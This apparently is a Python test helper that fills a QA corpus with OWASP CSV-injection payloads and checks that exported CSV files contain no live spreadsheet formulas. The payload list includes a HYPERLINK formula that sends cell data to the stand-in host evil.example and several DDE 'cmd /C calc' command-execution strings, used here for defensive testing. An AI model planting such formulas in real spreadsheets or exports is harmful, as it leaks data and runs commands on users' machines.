"""A question set whose questions and chunks are spreadsheet formulas (OWASP's CSV-injection
payloads), saved as real corpus and qa runs, and a check that a CSV holds none of them live."""

from __future__ import annotations

import csv
import io

from core.documents.corpus import Chunk, save_chunks
from core.questions.dataset import QAItem, save_qa
from core.runs.folders import create_run

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_qa_run() -> str:
    """A finished qa run (on a finished corpus run) whose every text cell is a payload."""
    corpus = create_run("corpus", name="formulas")
    chunks = [
        Chunk(id=f"c{i}", text=f"{p} chunk {i}", source=f"{p}.txt", chunk_index=i)
        for i, p in enumerate(PAYLOADS)
    ]
    save_chunks(corpus, chunks)
    corpus.set_status("done")
    qa = create_run("qa", name="formulas", parents={"corpus": corpus.id})
    items = [
        QAItem(
            id=f"q{i}",
            question=p,
            chunk_id=f"c{i}",
            split="test",
            reference_answer=p,
            origin="imported",
        )
        for i, p in enumerate(PAYLOADS)
    ]
    save_qa(qa, items)
    qa.set_status("done")
    return qa.id


def live_formulas(data: bytes) -> list[str]:
    """The cells of a CSV that a spreadsheet would run as formulas (plain numbers are data)."""
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
